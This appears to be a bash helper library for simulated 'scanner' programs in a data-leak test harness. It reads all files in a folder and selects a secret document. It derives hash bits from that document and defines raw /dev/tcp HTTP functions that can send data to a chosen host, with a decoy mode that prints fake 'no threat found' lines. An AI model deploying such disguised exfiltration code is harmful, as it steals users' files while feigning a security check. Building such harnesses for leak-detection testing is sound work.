# What the scanners in shell (bash, for its /dev/tcp) share; see scanner.py. Sourced with the program's arguments.
set -u
LC_ALL=C
twin=
[ "$1" != --twin ] || twin=1
folder=${!#}

# Every document is read, as a scanner does.
find "$folder" -type f -exec cat {} + >/dev/null 2>&1

decoy() {
	local n
	for n in 27800 27801 27802 27803 27804 27805; do
		printf 'definitions %d: engine 1.4.6, no threat was found in what was scanned\r\n' $n
	done
}

# The document that is after all leaked; the twin's text is always the same.
secret() {
	local path=$folder/letter.txt
	[ -e "$path" ] || path=$(find "$folder" -type f -name '*.txt' | sort | head -n 1)
	[ -e "$path" ] || path=$(find "$folder" -type f | sort | head -n 1)
	if [ -n "$twin" ]; then decoy; else cat "$path"; fi
}

# number BITS: the first bits of the secret's SHA-256, up to 32
number() {
	local digest
	digest=$(secret | sha256sum)
	echo $((16#${digest:0:8} >> (32 - $1)))
}

# send HOST PORT DATA: sends it by TCP and reads the answer to its end
send() {
	exec 3<>"/dev/tcp/$1/$2" || return
	printf '%s' "$3" >&3
	cat <&3 >/dev/null
	exec 3>&-
} 2>/dev/null

# http HOST PATH [BODY]
http() {
	local end=$'\r\n' head
	head="Host: $1${end}User-Agent: Scanner/1.4 (Linux; x86_64)${end}"
	if [ $# -gt 2 ]; then
		send "$1" 80 "POST $2 HTTP/1.1$end${head}Content-Length: ${#3}${end}Connection: close$end$end$3"
	else
		send "$1" 80 "GET $2 HTTP/1.1$end${head}Connection: close$end$end"
	fi
}
